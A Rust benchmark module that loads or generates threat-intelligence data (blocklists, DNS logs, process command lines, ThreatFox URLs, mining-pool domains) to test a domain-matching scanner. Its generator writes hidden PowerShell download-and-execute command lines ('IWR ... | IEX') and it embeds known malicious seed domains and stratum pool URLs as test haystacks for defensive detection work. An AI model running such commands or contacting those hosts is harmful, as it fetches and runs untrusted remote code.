//! Bench inputs: the real data under `../shared/data` when it is present, else a deterministic
//! generated corpus of the same shape.

use std::collections::HashSet;
use std::io::Read;
use std::path::{Path, PathBuf};

/// The two domains of the ThreatFox "Remus" hunting rule, used as the smallest scan set.
pub const SEED_DOMAINS: [&str; 2] = ["demale.shop", "thequarterlymethod.com"];

/// Sizes of the generated corpus, close to those of the real data.
const GENERATED_INDICATORS: usize = 503_611;
const GENERATED_DISTINCT_NAMES: usize = 1_900;
const GENERATED_NAMES: usize = 55_642;
const GENERATED_COMMAND_LINES: usize = 3_478;
const GENERATED_URLS: usize = 2_000;
const GENERATED_MINERS: usize = 70;

/// Number of benign URLs mixed with the ThreatFox URL rows.
const BENIGN_URLS: usize = 1_600;

/// Source of the corpus.
#[derive(Debug, Clone)]
pub enum Origin {
    /// The shared data folder.
    Shared(PathBuf),
    /// The deterministic generator, because the shared data folder is absent.
    Generated,
}

/// Every input of the domain benches.
#[derive(Debug)]
pub struct Corpus {
    pub origin: Origin,
    /// Distinct blocklist lines in a fixed pseudo-random order, so that every prefix is a sample.
    pub indicators: Vec<String>,
    /// DNS query names, lower-cased, with one root dot removed; non-ASCII names are left out
    /// because the hash-set peers cannot map them to their `xn--` form.
    pub query_names: Vec<String>,
    /// Process command lines, as logged.
    pub command_lines: Vec<String>,
    /// Malicious and benign URLs, mixed in a fixed pseudo-random order.
    pub urls: Vec<String>,
    /// The distinct domains of the Sentinel "DNS events related to mining pools" rule.
    pub miner_domains: Vec<String>,
}

impl Corpus {
    /// Loads the shared data, or generates a corpus and prints a notice to standard error.
    pub fn load() -> Corpus {
        let dir = PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/data"));
        if dir.is_dir() {
            load_shared(&dir)
        } else {
            eprintln!(
                "{} is absent: benchmarking a deterministic generated corpus instead of real data",
                dir.display()
            );
            generate()
        }
    }

    /// Returns a short description of the corpus for the bench log.
    pub fn describe(&self) -> String {
        let origin = match &self.origin {
            Origin::Shared(dir) => format!("real data from {}", dir.display()),
            Origin::Generated => "generated data".to_owned(),
        };
        format!(
            "{origin}: {} indicators, {} query names, {} command lines, {} URLs, {} miner domains",
            self.indicators.len(),
            self.query_names.len(),
            self.command_lines.len(),
            self.urls.len(),
            self.miner_domains.len()
        )
    }
}

/// The scan haystacks: command lines, then URLs, with known domains appended to some of them.
#[derive(Debug)]
pub struct Haystacks {
    pub texts: Vec<Vec<u8>>,
    /// Sum of the lengths of `texts`.
    pub total_bytes: usize,
    /// Haystacks that had one seed domain appended (one label-aware hit each).
    pub with_seed: usize,
    /// Haystacks that had one miner domain appended (one label-aware hit each).
    pub with_miner: usize,
    /// Haystacks that had `notdemale.shop demale.shop.example.net` appended: two substring
    /// matches of a seed domain that a label-aware scan must not report.
    pub with_decoy: usize,
}

/// Every this many haystacks, one gets a seed domain, one a miner domain (half-way between).
const INSERT_EVERY: usize = 20;

impl Haystacks {
    /// Builds the haystacks from the corpus. Seed domains alternate between a URL form and an
    /// upper-case name with a root dot, so that the scans must fold case and strip the dot.
    pub fn new(corpus: &Corpus) -> Haystacks {
        let mut texts: Vec<Vec<u8>> = corpus
            .command_lines
            .iter()
            .chain(&corpus.urls)
            .map(|text| text.as_bytes().to_vec())
            .collect();
        let (mut with_seed, mut with_miner, mut with_decoy) = (0, 0, 0);
        for (index, text) in texts.iter_mut().enumerate() {
            if index % INSERT_EVERY == 0 {
                let insert = if with_seed % 2 == 0 {
                    " https://cdn.demale.shop/gate.php?id=7".to_owned()
                } else {
                    " nslookup WWW.TheQuarterlyMethod.COM.".to_owned()
                };
                text.extend_from_slice(insert.as_bytes());
                with_seed += 1;
            }
            if index % INSERT_EVERY == INSERT_EVERY / 2 && !corpus.miner_domains.is_empty() {
                let miner = &corpus.miner_domains[with_miner % corpus.miner_domains.len()];
                text.extend_from_slice(format!(" -o stratum+tcp://pool.{miner}:3333").as_bytes());
                with_miner += 1;
            }
            if index % (2 * INSERT_EVERY) == 5 {
                text.extend_from_slice(b" notdemale.shop demale.shop.example.net");
                with_decoy += 1;
            }
        }
        let total_bytes = texts.iter().map(Vec::len).sum();
        Haystacks {
            texts,
            total_bytes,
            with_seed,
            with_miner,
            with_decoy,
        }
    }
}

fn load_shared(dir: &Path) -> Corpus {
    let mut indicators = blocklist_union(dir);
    shuffle(&mut indicators, 0x1bad_5eed);

    let mut query_names = sysmon_query_names(dir);
    query_names.extend(zeek_query_names(dir));
    let query_names = query_names
        .into_iter()
        .filter_map(|name| prepare_query_name(&name))
        .collect();

    let mut urls = threatfox_urls(dir);
    urls.extend(benign_urls(dir));
    shuffle(&mut urls, 0x0da7_a5e7);

    Corpus {
        origin: Origin::Shared(dir.to_owned()),
        indicators,
        query_names,
        command_lines: command_lines(dir),
        urls,
        miner_domains: miner_domains(dir),
    }
}

/// Lower-cases a query name and strips one root dot; returns `None` for an empty or non-ASCII
/// name.
fn prepare_query_name(name: &str) -> Option<String> {
    let name = name.trim();
    let name = name.strip_suffix('.').unwrap_or(name);
    (!name.is_empty() && name.is_ascii()).then(|| name.to_ascii_lowercase())
}

/// Reads a file, decompressing it when its name ends in `.gz`.
fn read_text(path: &Path) -> String {
    let bytes = std::fs::read(path).unwrap_or_else(|e| panic!("reading {}: {e}", path.display()));
    if path.extension().is_some_and(|ext| ext == "gz") {
        let mut text = String::new();
        flate2::read::GzDecoder::new(bytes.as_slice())
            .read_to_string(&mut text)
            .unwrap_or_else(|e| panic!("decompressing {}: {e}", path.display()));
        text
    } else {
        String::from_utf8(bytes).unwrap_or_else(|e| panic!("{} is not UTF-8: {e}", path.display()))
    }
}

/// Returns one string field of every JSON line that has it.
fn json_lines_field(text: &str, field: &str) -> Vec<String> {
    text.lines()
        .filter(|line| !line.trim().is_empty())
        .filter_map(|line| {
            let event: serde_json::Value = serde_json::from_str(line).expect("valid JSON line");
            event.get(field)?.as_str().map(str::to_owned)
        })
        .collect()
}

/// Returns the distinct lines of every `shadowwhisperer/RAW_*.txt` list, in file-name order.
fn blocklist_union(dir: &Path) -> Vec<String> {
    let lists = dir.join("domain-lists/shadowwhisperer");
    let mut paths: Vec<PathBuf> = std::fs::read_dir(&lists)
        .unwrap_or_else(|e| panic!("listing {}: {e}", lists.display()))
        .map(|entry| entry.expect("directory entry").path())
        .filter(|path| {
            let name = path.file_name().and_then(|n| n.to_str()).unwrap_or("");
            name.starts_with("RAW_") && name.ends_with(".txt")
        })
        .collect();
    paths.sort();
    let mut seen = HashSet::new();
    let mut union = Vec::new();
    for path in paths {
        for line in read_text(&path).lines() {
            let line = line.trim();
            if !line.is_empty() && !line.starts_with('#') && seen.insert(line.to_owned()) {
                union.push(line.to_owned());
            }
        }
    }
    union
}

fn sysmon_query_names(dir: &Path) -> Vec<String> {
    let text = read_text(&dir.join("dns-logs/otrf_mordor_sysmon_eid22_dnsquery.jsonl.gz"));
    json_lines_field(&text, "QueryName")
}

/// Returns the `query` column of the Zeek TSV `dns.log`, found by its `#fields` header.
fn zeek_query_names(dir: &Path) -> Vec<String> {
    let text = read_text(&dir.join("dns-logs/zeek_wrccdc2018_dns.log.gz"));
    let mut column = None;
    let mut names = Vec::new();
    for line in text.lines() {
        if let Some(fields) = line.strip_prefix("#fields\t") {
            column = fields.split('\t').position(|field| field == "query");
            continue;
        }
        if line.starts_with('#') {
            continue;
        }
        let column = column.expect("a #fields header with a query column before the first record");
        if let Some(query) = line.split('\t').nth(column)
            && query != "-"
        {
            names.push(query.to_owned());
        }
    }
    names
}

fn command_lines(dir: &Path) -> Vec<String> {
    let path = dir.join("process-events/otrf_mordor_sysmon_eid1_security_4688.jsonl.gz");
    json_lines_field(&read_text(&path), "CommandLine")
}

/// Returns the `ioc_value` of every `url` row of the ThreatFox JSON exports.
fn threatfox_urls(dir: &Path) -> Vec<String> {
    let folder = dir.join("threatfox");
    let mut paths: Vec<PathBuf> = std::fs::read_dir(&folder)
        .unwrap_or_else(|e| panic!("listing {}: {e}", folder.display()))
        .map(|entry| entry.expect("directory entry").path())
        .filter(|path| path.extension().is_some_and(|ext| ext == "json"))
        .collect();
    paths.sort();
    let mut urls = Vec::new();
    for path in paths {
        let export: serde_json::Value =
            serde_json::from_str(&read_text(&path)).expect("valid ThreatFox JSON export");
        let Some(iocs) = export.as_object() else {
            continue;
        };
        for rows in iocs.values() {
            for row in rows.as_array().into_iter().flatten() {
                if row.get("ioc_type").and_then(|t| t.as_str()) == Some("url")
                    && let Some(url) = row.get("ioc_value").and_then(|v| v.as_str())
                {
                    urls.push(url.to_owned());
                }
            }
        }
    }
    urls
}

/// Builds benign URLs on the first domains of the Tranco top-10k MISP warninglist, with
/// paths and queries shaped like web-proxy logs.
fn benign_urls(dir: &Path) -> Vec<String> {
    let path = dir.join("domain-lists/misp_warninglist_tranco10k.json");
    let list: serde_json::Value =
        serde_json::from_str(&read_text(&path)).expect("valid MISP warninglist");
    let domains = list["list"].as_array().expect("a warninglist has a list");
    domains
        .iter()
        .filter_map(|domain| domain.as_str())
        .take(BENIGN_URLS)
        .enumerate()
        .map(|(index, domain)| benign_url(index, domain))
        .collect()
}

fn benign_url(index: usize, domain: &str) -> String {
    match index % 4 {
        0 => format!("https://www.{domain}/"),
        1 => format!("https://{domain}/static/js/app.{index:x}.min.js?v={index}"),
        2 => format!("http://cdn.{domain}/images/banner-{index}.png"),
        _ => format!("https://api.{domain}/v2/session?client=web&ts=16{index:08}"),
    }
}

/// Returns the distinct domains of the `has_any (...)` list of the Sentinel mining-pool rule.
fn miner_domains(dir: &Path) -> Vec<String> {
    let text = read_text(&dir.join("rules/sentinel/DNS_Miners.yaml"));
    let start = text.find("has_any (").expect("the rule has a has_any list");
    let end = start + text[start..].find(')').expect("the has_any list is closed");
    let mut seen = HashSet::new();
    text[start..end]
        .split('"')
        .skip(1)
        .step_by(2)
        .map(str::trim)
        .filter(|domain| seen.insert(domain.to_owned()))
        .map(str::to_owned)
        .collect()
}

/// Shuffles in place (Fisher-Yates) with a fixed seed, so that every run uses the same order.
fn shuffle<T>(items: &mut [T], seed: u64) {
    let mut rng = SplitMix64(seed);
    for last in (1..items.len()).rev() {
        let other = rng.below(last + 1);
        items.swap(last, other);
    }
}

/// The SplitMix64 generator: small, fast and fully determined by its seed.
struct SplitMix64(u64);

impl SplitMix64 {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// Returns a number in `0..bound`.
    fn below(&mut self, bound: usize) -> usize {
        ((u128::from(self.next()) * bound as u128) >> 64) as usize
    }

    fn label(&mut self, min: usize, max: usize) -> String {
        const ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
        let len = min + self.below(max - min + 1);
        (0..len)
            .map(|_| char::from(ALPHABET[self.below(ALPHABET.len())]))
            .collect()
    }

    fn domain(&mut self) -> String {
        const TLDS: [&str; 8] = ["com", "net", "org", "xyz", "info", "io", "ru", "shop"];
        let tld = TLDS[self.below(TLDS.len())];
        let base = format!("{}.{tld}", self.label(4, 14));
        if self.below(10) < 3 {
            format!("{}.{base}", self.label(2, 8))
        } else {
            base
        }
    }
}

/// Generates a corpus shaped like the real one: about 10 % of query names are covered by an
/// indicator, and command lines and URLs mention benign random domains.
fn generate() -> Corpus {
    let mut rng = SplitMix64(0x5eed_da7a);

    let mut seen = HashSet::new();
    let mut indicators = Vec::with_capacity(GENERATED_INDICATORS);
    while indicators.len() < GENERATED_INDICATORS {
        let domain = rng.domain();
        if seen.insert(domain.clone()) {
            indicators.push(domain);
        }
    }

    let distinct_names: Vec<String> = (0..GENERATED_DISTINCT_NAMES)
        .map(|index| {
            if index % 10 == 0 {
                let indicator = &indicators[rng.below(indicators.len())];
                format!("{}.{indicator}", rng.label(1, 6))
            } else {
                format!("{}.{}", rng.label(2, 6), rng.domain())
            }
        })
        .collect();
    let query_names = (0..GENERATED_NAMES)
        .map(|_| distinct_names[rng.below(distinct_names.len())].clone())
        .collect();

    let command_lines = (0..GENERATED_COMMAND_LINES)
        .map(|index| match index % 4 {
            0 => format!(r"C:\Windows\system32\cmd.exe /c ping -n 1 {}", rng.domain()),
            1 => format!(
                "powershell.exe -NoP -W Hidden -c \"IWR https://{}/{}.ps1 | IEX\"",
                rng.domain(),
                rng.label(4, 10)
            ),
            2 => format!(
                r"C:\Windows\System32\svchost.exe -k netsvcs -p -s {}",
                rng.label(5, 12)
            ),
            _ => format!(
                r#""C:\Program Files\App\app.exe" --config C:\ProgramData\{}\settings.json"#,
                rng.label(3, 9)
            ),
        })
        .collect();

    let urls = (0..GENERATED_URLS)
        .map(|index| benign_url(index, &rng.domain()))
        .collect();

    let miner_domains = (0..GENERATED_MINERS)
        .map(|index| format!("pool{index}.{}", rng.domain()))
        .collect();

    Corpus {
        origin: Origin::Generated,
        indicators,
        query_names,
        command_lines,
        urls,
        miner_domains,
    }
}
